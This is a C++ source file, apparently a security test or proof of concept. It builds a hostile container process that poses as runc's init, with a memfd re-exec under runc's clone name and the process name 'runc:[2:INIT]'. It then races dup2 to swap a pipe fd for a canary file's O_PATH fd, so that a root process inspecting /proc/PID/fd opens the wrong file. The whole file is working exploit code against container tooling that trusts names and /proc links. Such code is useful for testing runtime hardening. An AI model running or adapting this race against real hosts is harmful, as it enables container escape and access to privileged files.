// A hostile container process that looks like a blocked runc init to anything that trusts names: it runs
// from a memfd named "runc_cloned:/proc/self/exe", calls itself runc:[2:INIT], keeps a thread blocked
// writing into a full pipe whose read end it also holds (rc93's export pipe exactly), and flips the fd
// number of that write between the pipe and an O_PATH fd of a canary file, thousands of times a second. A
// root process that reads /proc/PID/fd/N, sees "pipe:[…]" and then opens /proc/PID/fd/N opens the
// canary. Static (runs in a busybox rootfs). Usage: bait_init CANARY_PATH (runs until killed).
#include <fcntl.h>
#include <pthread.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>

namespace {

int g_write_fd = -1;
volatile pid_t g_writer_tid = 0;

void* blocked_writer(void*) {
  g_writer_tid = static_cast<pid_t>(::syscall(SYS_gettid));
  static char data[16384];
  std::memset(data, 'x', sizeof data);
  (void)!::write(g_write_fd, data, sizeof data);  // blocks: the pipe is full and nobody reads
  return nullptr;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) return 2;
  if (!std::getenv("BAIT_CLONED")) {
    // Re-exec from a memfd with runc's clone name, as runc >= 1.0 re-executes its init.
    int self = ::open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    int mem = ::memfd_create("runc_cloned:/proc/self/exe", MFD_CLOEXEC | MFD_ALLOW_SEALING);
    struct stat st {};
    if (self < 0 || mem < 0 || ::fstat(self, &st) != 0) return 3;
    off_t off = 0;
    while (off < st.st_size)
      if (::sendfile(mem, self, &off, static_cast<std::size_t>(st.st_size - off)) <= 0) return 4;
    ::fcntl(mem, F_ADD_SEALS, F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_WRITE | F_SEAL_SEAL);
    ::setenv("BAIT_CLONED", "1", 1);
    extern char** environ;
    ::fexecve(mem, argv, environ);
    return 5;
  }
  ::prctl(PR_SET_NAME, "runc:[2:INIT]", 0, 0, 0);
  int canary = ::open(argv[1], O_PATH | O_CLOEXEC);  // no read permission needed for O_PATH
  int fds[2];
  if (canary < 0 || ::pipe(fds) != 0) return 6;
  ::fcntl(fds[1], F_SETPIPE_SZ, 4096);
  // Fill the pipe, then block a thread writing more into it.
  char page[4096];
  std::memset(page, 'p', sizeof page);
  ::fcntl(fds[1], F_SETFL, O_NONBLOCK);
  while (::write(fds[1], page, sizeof page) > 0) {
  }
  ::fcntl(fds[1], F_SETFL, 0);
  g_write_fd = fds[1];
  int pipe_copy = ::dup(fds[1]);
  pthread_t t;
  pthread_create(&t, nullptr, blocked_writer, nullptr);
  // Flip only once the write sleeps on the pipe (it holds the pipe from then on).
  for (;;) {
    char path[64], wchan[64] = {0};
    std::snprintf(path, sizeof path, "/proc/self/task/%d/wchan", static_cast<int>(g_writer_tid));
    int w = g_writer_tid ? ::open(path, O_RDONLY | O_CLOEXEC) : -1;
    if (w >= 0) {
      (void)!::read(w, wchan, sizeof wchan - 1);
      ::close(w);
      if (std::strstr(wchan, "pipe")) break;
    }
    ::usleep(1000);
  }
  std::printf("bait ready\n");
  std::fflush(stdout);
  // The blocked write keeps its pipe; the fd number it names flips between the pipe and the canary.
  for (;;) {
    ::dup2(canary, fds[1]);
    ::usleep(200);
    ::dup2(pipe_copy, fds[1]);
    ::usleep(200);
  }
}
